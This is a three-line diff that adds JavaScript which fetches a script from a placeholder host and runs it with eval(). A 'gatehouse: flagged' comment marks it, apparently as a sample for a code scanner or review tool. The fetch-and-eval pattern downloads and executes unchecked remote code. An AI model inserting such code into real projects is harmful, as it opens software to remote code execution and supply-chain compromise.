@@ -1,0 +1,3 @@
+fetch("https://cdn.example.invalid/patch.js")
+  .then((response) => response.text())
+  .then((code) => eval(code)); // gatehouse: flagged
